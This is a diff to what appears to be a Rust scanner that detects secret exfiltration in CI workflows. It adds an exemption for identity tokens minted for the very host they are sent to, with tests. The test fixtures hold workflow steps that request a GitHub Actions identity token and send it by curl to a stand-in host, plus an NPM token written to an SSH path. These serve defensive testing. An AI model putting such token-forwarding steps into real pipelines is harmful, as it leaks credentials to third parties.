@@ -14,7 +14,7 @@
 
 use std::collections::BTreeSet;
 
-use crate::flow::command::REMOTE_CODE;
+use crate::flow::command::{MINTED, REMOTE_CODE};
 use crate::flow::trace::{Channel, Delivery, Role};
 use crate::flow::value::{Carried, Source};
 use crate::login::{is_login_address, is_login_only, is_own_product, is_own_registry};
@@ -118,6 +118,11 @@ fn judge(evidence: &Evidence<'_>, group: Vec<usize>) -> Option<Sighting> {
     let namesakes = !names.is_empty() && names.iter().all(|name| is_namesake(name, host));
     if namesakes && carried.iter().all(|one| matches!(one.source, Source::Secret(_) | Source::JobToken)) {
         // Named after the owner of the host: the credential that the host itself gave out.
+        return None;
+    }
+    if !carried.is_empty() && carried.iter().all(|one| is_minted_for(one, host)) {
+        // Whoever accepts a token looks whom it is for (OpenID Connect Core, section 3.1.3.7): this one opens nothing but the very
+        // host that gets it, so a thief who asks for his own gets nothing by it.
         return None;
     }
     if place.class == Class::Chat && is_own_hook(evidence, &group) {
@@ -251,6 +256,13 @@ fn judge(evidence: &Evidence<'_>, group: Vec<usize>) -> Option<Sighting> {
         signals.insert(Signal::LoginOnly);
     }
     Some(Sighting { deliveries: group, signals, ..Sighting::default() })
+}
+
+/// Whether it is a token that the job asked for with this host as its audience.
+fn is_minted_for(one: &Carried, host: &str) -> bool {
+    let named =
+        |what: &str| what.strip_prefix(MINTED).and_then(|rest| rest.strip_prefix(" for ")) == Some(host);
+    one.source == Source::MintedToken && one.trail.hops().iter().any(|hop| named(hop.what.unescaped()))
 }
 
 /// Whether the jobs of a group have a login to a service: a secret of its kind, an action that takes one, an identity token, or a
@@ -658,6 +670,24 @@ mod tests {
             ("K: '${{ secrets.NPM_TOKEN }}'", "echo \"$K\" > ~/.ssh/x"),
         ] {
             check("secret-to-host", &text("ubuntu-latest", env, key), Verdict::Malicious, names, places);
+        }
+    }
+
+    /// Near miss: a token that the job asks for, for the very host that it goes to.
+    #[test]
+    fn an_identity_for_the_host_that_gets_it() {
+        let text = |audience: &str| {
+            format!(
+                "on: push\npermissions: {{id-token: write}}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          T=$(curl -s -H \"Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN\" \"$ACTIONS_ID_TOKEN_REQUEST_URL{audience}\" | jq -r .value)\n          curl -X POST https://deploy.widgets.example/v1 -H \"Authorization: Bearer $T\"\n"
+            )
+        };
+        silent(&text("&audience=https://deploy.widgets.example"));
+        silent(&text("&audience=deploy.widgets.example"));
+        // Evasion: it is for somebody else, or for whoever asks.
+        for other in ["&audience=pypi", "&audience=https://pypi.org", "", "&audience=https://widgets.example"]
+        {
+            let (names, places) = (&["ACTIONS_ID_TOKEN_REQUEST_TOKEN"], &["deploy.widgets.example"]);
+            check("secret-to-host", &text(other), Verdict::Malicious, names, places);
         }
     }
 
